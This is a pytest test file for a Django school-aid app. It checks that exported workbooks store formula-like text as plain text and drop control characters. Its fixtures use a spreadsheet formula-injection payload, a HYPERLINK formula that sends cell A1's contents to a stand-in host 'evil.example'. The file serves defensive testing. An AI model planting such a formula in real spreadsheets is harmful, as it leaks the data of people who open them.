"""The one writer of every workbook AidCase writes (aidcase.workbooks), and each kind of
workbook as its reader meets it: the five import exports, the templates, the one-time
password sheet, the ledgers and the assessment summary. Text stays text (a note that looks
like a formula is never one), characters Excel cannot hold are dropped instead of answering
500, and an export imports again without a change.

alice is the school's aid office, paula its principal, bob a teacher."""

import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from aidcase.workbooks import (
    MAX_CELL_CHARACTERS,
    row_append,
    sheet_add,
    workbook_new,
    workbook_save,
)
from assessment.models import Score
from assessment.services import sheets_compute
from imports.services import SHEETS, sheet_for
from students.models import Category, Role
from tests import factories
from tests.conftest import login
from tests.helpers import text
from visits.models import ActivityLog, Incident, IncidentType, Kind

ROOT = Path(__file__).resolve().parents[2]
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
FORMULA_LIKE = [HYPERLINK, "=好", "-3分", "+86 138", "@SUM(A1:A9)", "#N/A", "=1+1"]
BELL = "\x07"


def written(*rows: list) -> openpyxl.Workbook:
    workbook = workbook_new()
    sheet = sheet_add(workbook, title="表")
    for row in rows:
        row_append(sheet, row)
    return openpyxl.load_workbook(io.BytesIO(workbook_save(workbook)))


def cells(book: openpyxl.Workbook) -> list:
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(book: openpyxl.Workbook) -> None:
    formulas = [cell.coordinate for cell in cells(book) if cell.data_type == "f"]
    assert not formulas, formulas


def cell_of(book: openpyxl.Workbook, value: str):
    found = [cell for cell in cells(book) if cell.value == value]
    assert found, f"{value!r} is not in the workbook"
    return found[0]


# The writer


@pytest.mark.parametrize("value", FORMULA_LIKE)
def test_text_that_looks_like_a_formula_is_stored_as_the_text_it_is(value):
    # Given a row with a note a teacher typed, when it is written
    book = written(["说明", value])
    # Then the cell is a string holding exactly that text, marked as text for Excel too
    cell = book.worksheets[0]["B1"]
    assert (cell.data_type, cell.value) == ("s", value)
    assert cell.quotePrefix
    # And the read-only reader of the imports sees the same text
    streamed = openpyxl.load_workbook(
        io.BytesIO(_bytes_of(["说明", value])), read_only=True, data_only=True
    )
    assert next(streamed.worksheets[0].iter_rows(values_only=True)) == ("说明", value)


def _bytes_of(row: list) -> bytes:
    workbook = workbook_new()
    row_append(sheet_add(workbook, title="表"), row)
    return workbook_save(workbook)


@pytest.mark.parametrize(
    ("value", "kept"),
    [
        (f"王{BELL}小明", "王小明"),
        ("a\x00b\x1fc\x0bd", "abcd"),
        ("lone \ud800 surrogate", "lone  surrogate"),
        ("not a character \ufffe\uffff", "not a character "),
        ("tab\tand\nnew line", "tab\tand\nnew line"),
        (f"={BELL}好", "=好"),
    ],
)
def test_characters_an_xlsx_cannot_hold_are_dropped(value, kept):
    cell = written([value]).worksheets[0]["A1"]
    assert cell.value == kept
    assert cell.data_type == "s"


def test_numbers_dates_and_booleans_keep_their_types():
    moment = timezone.make_aware(dt.datetime(2026, 3, 1, 8, 30))  # noqa: DTZ001
    row = [3, Decimal("1.0833"), 2.5, dt.date(2026, 3, 1), moment, True, None, -3]
    a, b, c, d, e, f, g, h = next(written(row).worksheets[0].iter_rows(max_row=1))
    assert (a.value, a.data_type) == (3, "n")
    assert (b.value, c.value, h.value) == (1.0833, 2.5, -3)
    # Excel has no time zones: dates read back as naive datetimes, an aware one at local time
    assert d.is_date and d.value == dt.datetime(2026, 3, 1)  # noqa: DTZ001
    assert e.is_date and e.value == dt.datetime(2026, 3, 1, 8, 30)  # noqa: DTZ001
    assert (f.value, f.data_type) == (True, "b")
    assert g.value is None


def test_text_is_cut_at_the_length_excel_can_hold():
    value = written(["长" * (MAX_CELL_CHARACTERS + 10)]).worksheets[0]["A1"].value
    assert value == "长" * MAX_CELL_CHARACTERS


def test_every_workbook_of_the_project_is_written_by_the_one_writer():
    # Given the project's own code (not the tests, not the benchmark's hand-made files)
    writer = ROOT / "aidcase" / "workbooks.py"
    sources = [
        path
        for app in ("aidcase", "students", "pairing", "visits", "assessment")
        for path in (ROOT / app).rglob("*.py")
        if "migrations" not in path.parts and path != writer
    ]
    # Then nothing but the writer makes a workbook or a write-only sheet
    pattern = re.compile(r"Workbook\(|write_only=|WriteOnlyCell\(")
    offenders = [
        f"{path.relative_to(ROOT)}:{number}"
        for path in sources
        for number, line in enumerate(path.read_text().splitlines(), start=1)
        if pattern.search(line)
    ]
    assert not offenders, offenders


# The five import exports: what each kind writes from a record's free text


@pytest.fixture
def alice(school):
    return factories.make_user(Role.OFFICE, school=school, name="资助办甲")


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


# Where each kind writes a free text of a record, and the longest the import accepts there.
TEXT_COLUMN = {
    "students": ("姓名", 40),
    "teachers": ("姓名", 40),
    "pairings": ("学科", 20),
    "scores": ("科目", 20),
    "incidents": ("说明", 2000),
}


def record_with(kind: str, value: str, *, school, semester) -> None:
    """A record of the kind whose free text is `value`, complete enough to import again."""
    student = factories.StudentFactory(
        school=school,
        name=value if kind == "students" else "王小明",
        school_class=factories.SchoolClassFactory(school=school, name="七年级(1)班"),
    )
    if kind == "teachers":
        factories.make_user(Role.TEACHER, school=school, name=value)
    elif kind == "pairings":
        factories.PairingFactory(
            school=school, student=student, category=Category.STRUGGLING, subject=value
        )
    elif kind == "scores":
        Score.objects.create(student=student, semester=semester, subject=value, score=88)
    elif kind == "incidents":
        Incident.objects.create(
            student=student,
            date=semester.start,
            type=IncidentType.TRUANCY,
            note=value,
            recorded_by=factories.make_user(Role.OFFICE, school=school),
        )


def export(client, kind: str):
    response = client.get(f"/imports/{kind}/export.xlsx")
    assert response.status_code == 200
    return response


def column_values(response, header: str) -> list:
    rows = list(openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0].iter_rows())
    index = [cell.value for cell in rows[0]].index(header)
    return [row[index] for row in rows[1:]]


@pytest.mark.parametrize("kind", list(SHEETS))
def test_an_export_writes_a_formula_like_text_as_text(kind, school, semester, alice):
    # Given a record whose free text is a live hyperlink formula
    header, length = TEXT_COLUMN[kind]
    value = HYPERLINK[:length] if length >= len(HYPERLINK) else "=1+1"
    record_with(kind, value, school=school, semester=semester)
    # When the office exports the kind
    response = export(login(alice), kind)
    # Then the text arrives as a string cell, and no cell of the workbook is a formula
    (cell,) = [c for c in column_values(response, header) if c.value == value]
    assert cell.data_type == "s"
    assert_no_formula(openpyxl.load_workbook(io.BytesIO(response.content)))


@pytest.mark.parametrize("kind", list(SHEETS))
def test_an_export_drops_control_characters_instead_of_failing(kind, school, semester, alice):
    # Given a record whose free text holds a control character pasted in from elsewhere
    header, _length = TEXT_COLUMN[kind]
    record_with(kind, f"数{BELL}学", school=school, semester=semester)
    # When the office exports the kind, then the file is written without it
    response = export(login(alice), kind)
    assert "数学" in [cell.value for cell in column_values(response, header)]


@pytest.mark.parametrize("kind", list(SHEETS))
@pytest.mark.parametrize("value", ["=好", "-3分"])
def test_export_then_import_of_formula_like_text_changes_nothing(
    kind, value, school, semester, alice
):
    # Given a record whose free text starts like a formula
    record_with(kind, value, school=school, semester=semester)
    client = login(alice)
    # When the office exports it and uploads the file again
    exported = export(client, kind)
    preview = client.post(
        f"/imports/{kind}/",
        {"file": SimpleUploadedFile("export.xlsx", exported.content), "semester": ""},
    )
    # Then the preview reports every row unchanged
    page = text(preview)
    assert preview.status_code == 200, page
    assert re.search(r'id="count-new"><b>0</b>', page), page
    assert re.search(r'id="count-changed"><b>0</b>', page), page
    assert not re.search(r'id="count-unchanged"><b>0</b>', page), page


# Templates and the one-time password sheet


def token_of(response) -> str:
    match = re.search(r'name="token" value="([^"]+)"', text(response))
    assert match, text(response)
    return match[1]


@pytest.mark.parametrize("kind", list(SHEETS))
def test_a_template_holds_no_formula(kind, alice):
    response = login(alice).get(f"/imports/{kind}/template.xlsx")
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    assert_no_formula(book)
    headers = [cell.value for cell in next(book.worksheets[0].iter_rows(max_row=1))]
    assert headers == [c.header + ("*" if c.required else "") for c in sheet_for(kind).columns]


def test_the_password_sheet_writes_imported_names_as_text(alice):
    # Given teachers imported with a name that looks like a formula and one with a bell
    client = login(alice)
    csv = f'工号,姓名\nT9001,"{HYPERLINK[:40].replace(chr(34), chr(34) * 2)}"\nT9002,吴{BELL}老师\n'
    preview = client.post(
        "/imports/teachers/",
        {"file": SimpleUploadedFile("教师.csv", csv.encode()), "semester": ""},
    )
    done = client.post("/imports/teachers/confirm/", {"token": token_of(preview)})
    # When the office downloads the one-time passwords
    response = client.post("/imports/passwords.xlsx", {"token": token_of(done)})
    # Then the names are text, the bell dropped, and no cell is a formula
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    assert cell_of(book, HYPERLINK[:40]).data_type == "s"
    assert cell_of(book, "吴老师").data_type == "s"
    assert_no_formula(book)


# The ledgers and the assessment summary


@pytest.fixture
def hostile_pairing(school, semester):
    """A teacher and a student whose names, and a log whose content, were typed with a
    formula and a control character."""
    bob = factories.make_user(Role.TEACHER, school=school, name=f"={BELL}王老师")
    student = factories.StudentFactory(school=school, name=f"{HYPERLINK[:38]}{BELL}")
    pairing = factories.PairingFactory(school=school, student=student, teacher=bob)
    ActivityLog.objects.create(
        pairing=pairing,
        author=bob,
        kind=Kind.TALK,
        date=min(timezone.localdate(), semester.end),
        content=f"{HYPERLINK}{BELL}",
    )
    return pairing


@pytest.mark.parametrize("ledger", ["pairings", "logs", "aid", "changes"])
def test_a_ledger_writes_formula_like_text_as_text_and_drops_control_characters(
    ledger, alice, hostile_pairing
):
    response = login(alice).get(f"/ledgers/{ledger}/")
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    assert_no_formula(book)
    values = [str(cell.value) for cell in cells(book) if cell.value is not None]
    assert not any(BELL in value for value in values)
    if ledger in ("pairings", "logs"):
        assert cell_of(book, "=王老师").data_type == "s"
        assert cell_of(book, HYPERLINK[:38]).data_type == "s"


def test_the_assessment_summary_writes_names_as_text_without_control_characters(
    school, semester, hostile_pairing
):
    # Given the semester's sheets, computed for a teacher and a student with such names
    paula = factories.make_user(Role.PRINCIPAL, school=school, name="校长乙")
    sheets_compute(school=school, semester=semester, by=None)
    # When the principal downloads the summary
    response = login(paula).get(reverse("summary_xlsx", args=[semester.pk]))
    # Then it is written, with the names as text and no formula anywhere
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    assert_no_formula(book)
    assert cell_of(book, "=王老师").data_type == "s"
    assert cell_of(book, HYPERLINK[:38]).data_type == "s"
